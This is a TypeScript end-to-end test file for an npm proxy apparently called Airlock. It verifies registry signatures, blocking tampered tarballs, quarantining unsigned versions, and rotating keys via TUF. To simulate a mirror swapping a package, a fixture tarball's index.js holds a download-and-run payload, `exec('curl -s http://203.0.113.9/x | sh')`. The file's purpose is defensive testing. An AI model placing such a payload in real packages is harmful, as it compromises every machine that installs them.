/**
 * Registry signatures with the real npm client and the built-in policy. The registry signs
 * `name@version:integrity` for every version; a mirror or proxy between it and Airlock that swaps
 * a tarball and its integrity cannot sign the new pair, and one that strips the signature leaves
 * the version unsigned. Airlock trusts the keys its configuration names (here the fixture
 * registry's, from a key file in the `/-/npm/v1/keys` format) and checks every tarball against them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { newSigningKey, packageTarball, signatureOf, type SigningKey } from '../../support/npm-registry/index.ts';
import { TestTufRepo } from '../../support/tuf-repo.ts';
import { captureLog } from './provenance.ts';
import { daysAgo, editPackument, eventually, quarantineIdIn, signalsE2e } from './support.ts';

const PUBLIC_GOOD_ROOT = join(import.meta.dirname, '..', '..', '..', 'src', 'verify', 'sigstore', 'public-good-trusted-root.json');

test('a version a mirror altered after the registry signed it is blocked, a stripped signature is held, a signed one installs', async (t) => {
  const key = newSigningKey();
  const dir = await mkdtemp(join(tmpdir(), 'airlock-registry-keys-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const keysFile = join(dir, 'registry-keys.json');
  await writeFile(keysFile, JSON.stringify({ keys: [{ expires: null, keyid: key.keyid, keytype: 'ecdsa-sha2-nistp256', scheme: 'ecdsa-sha2-nistp256', key: key.publicDer.toString('base64') }] }));
  const file = (v: string) => [{ path: 'index.js', content: `module.exports = ${JSON.stringify(v)};\n` }];
  const s = await signalsE2e({
    signingKey: key,
    packages: [{ name: 'signed-lib', versions: ['1.0.0', '1.1.0', '1.2.0'].map((version) => ({ version, publishedAt: daysAgo(100), files: file(version) })), distTags: { latest: '1.0.0' } }],
    config: { repository: { registryKeys: [keysFile] }, policy: { data: { airlock: { settings: { registry_signature_missing: 'quarantine' } } } } },
  });
  t.after(() => s.close());

  // The mirror serves 1.1.0 with other code and that code's integrity, under the registry's
  // signature of the original; and 1.2.0 with its signature removed.
  const altered = packageTarball({ name: 'signed-lib', version: '1.1.0', description: 'signed-lib fixture', main: 'index.js', license: 'MIT' }, [
    { path: 'index.js', content: "require('child_process').exec('curl -s http://203.0.113.9/x | sh');\n" },
  ]);
  s.registry.putTarball('signed-lib', 'signed-lib-1.1.0.tgz', altered.bytes);
  await editPackument(s.registry, 'signed-lib', (doc) => {
    const dist = (v: string) => doc.versions[v]?.['dist'] as Record<string, unknown>;
    Object.assign(dist('1.1.0'), { integrity: altered.integrity, shasum: altered.shasum });
    delete dist('1.2.0')['signatures'];
  });

  const p = await s.project();
  const signed = await p.npm(['install', 'signed-lib@1.0.0']);
  assert.equal(signed.code, 0, signed.output);
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.0.0";\n');
  const decisions = await s.api<{ items: Array<{ phase: string; facts: { registry_signature?: unknown } }> }>('GET', `decisions?purl=${encodeURIComponent('pkg:npm/signed-lib@1.0.0')}`);
  const judged = decisions.body.items.find((d) => d.phase === 'artifact');
  assert.deepEqual(judged?.facts.registry_signature, { status: 'verified', keyid: key.keyid, error: null, keyids: [key.keyid] });

  const swapped = await p.npm(['install', 'signed-lib@1.1.0']);
  assert.notEqual(swapped.code, 0, swapped.output);
  assert.match(
    swapped.output,
    new RegExp(
      `signed-lib@1\\.1\\.0 is blocked by Airlock policy: signed-lib@1\\.1\\.0: its registry signature does not check out \\(the signature by ${key.keyid.replace(/[+/]/g, '\\$&')} does not verify over signed-lib@1\\.1\\.0:sha512-\\S+\\): the metadata was altered after the registry signed it \\[integrity\\.signature_invalid\\]`,
    ),
  );
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.0.0";\n', 'the altered code was never installed');

  const stripped = await p.npm(['install', 'signed-lib@1.2.0']);
  assert.notEqual(stripped.code, 0, stripped.output);
  assert.match(stripped.output, /signed-lib@1\.2\.0 is quarantined by Airlock: .*signed-lib@1\.2\.0 has no registry signature \[integrity\.signature_missing\]/);
  const id = quarantineIdIn(stripped.output);
  assert.notEqual(id, null);
  const record = await s.api<{ facts: { registry_signature: unknown } }>('GET', `quarantine/${id}`);
  assert.deepEqual(record.body.facts.registry_signature, { status: 'absent', keyid: null, error: null, keyids: [] });
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.0.0";\n');
});

/** A TUF `keys.json` (Sigstore's format for the registry's keys) listing `keys` for signatures, valid since 2020. */
function tufKeysJson(keys: readonly SigningKey[]): Buffer {
  return Buffer.from(
    JSON.stringify({
      keys: keys.map((k) => ({ keyId: k.keyid, keyUsage: 'npm:signatures', publicKey: { rawBytes: k.publicDer.toString('base64'), keyDetails: 'PKIX_ECDSA_P256_SHA_256', validFor: { start: '2020-01-01T00:00:00.000Z' } } })),
    }),
  );
}

test('registry keys kept current through TUF: the registry rotates its signing key, the TUF repository publishes the successor, and a version signed by it installs', async (t) => {
  const old = newSigningKey();
  const successor = newSigningKey();
  const tuf = new TestTufRepo();
  const dir = await mkdtemp(join(tmpdir(), 'airlock-registry-keys-'));
  t.after(async () => {
    await tuf.close();
    await rm(dir, { recursive: true, force: true });
  });
  const file = (v: string) => [{ path: 'index.js', content: `module.exports = ${JSON.stringify(v)};\n` }];
  const log = captureLog();
  const url = await tuf.serve();
  await writeFile(join(dir, 'root.json'), tuf.initialRoot);
  tuf.publish('trusted_root.json', await readFile(PUBLIC_GOOD_ROOT));
  // Sigstore's repository names the registry's keys after its host; the fixture registry is on 127.0.0.1.
  tuf.publish('127.0.0.1/keys.json', tufKeysJson([old]));
  const s = await signalsE2e({
    signingKey: old,
    packages: [{ name: 'signed-lib', versions: [{ version: '1.0.0', publishedAt: daysAgo(100), files: file('1.0.0') }], distTags: { latest: '1.0.0' } }],
    config: {
      repository: { registryKeys: 'tuf', sigstoreTrustedRoot: { tuf: url, initialRoot: join(dir, 'root.json'), refresh: '1s' }, metadataMaxAge: '0s' },
      policy: { data: { airlock: { settings: { registry_signature_missing: 'quarantine' } } } },
    },
    logger: log.logger,
  });
  t.after(() => s.close());
  await eventually('the keys from TUF', async () => (log.keyUpdates() >= 1 ? true : undefined));
  const signature = async (version: string): Promise<unknown> => {
    const decisions = await s.api<{ items: Array<{ phase: string; facts: { registry_signature?: unknown } }> }>('GET', `decisions?purl=${encodeURIComponent(`pkg:npm/signed-lib@${version}`)}`);
    return decisions.body.items.find((d) => d.phase === 'artifact')?.facts.registry_signature;
  };

  const p = await s.project();
  const one = await p.npm(['install', 'signed-lib@1.0.0']);
  assert.equal(one.code, 0, one.output);
  assert.deepEqual(await signature('1.0.0'), { status: 'verified', keyid: old.keyid, error: null, keyids: [old.keyid] });

  // The registry signs with its new key from now on (1.1.0, published next, is signed with it),
  // and the TUF repository lists both keys.
  s.registry.addVersions('signed-lib', [{ version: '1.1.0', publishedAt: daysAgo(30), files: file('1.1.0') }], { latest: '1.1.0' });
  await editPackument(s.registry, 'signed-lib', (doc) => {
    const dist = doc.versions['1.1.0']?.['dist'] as { integrity: string; signatures: unknown };
    dist.signatures = [{ keyid: successor.keyid, sig: signatureOf(successor, 'signed-lib', '1.1.0', dist.integrity) }];
  });
  tuf.publish('127.0.0.1/keys.json', tufKeysJson([old, successor]));
  await eventually('the rotated keys from TUF', async () => (log.keyUpdates() >= 2 ? true : undefined));
  const two = await p.npm(['install', 'signed-lib@1.1.0']);
  assert.equal(two.code, 0, two.output);
  assert.equal(await readFile(join(p.dir, 'node_modules/signed-lib/index.js'), 'utf8'), 'module.exports = "1.1.0";\n');
  assert.deepEqual(await signature('1.1.0'), { status: 'verified', keyid: successor.keyid, error: null, keyids: [successor.keyid] });
});
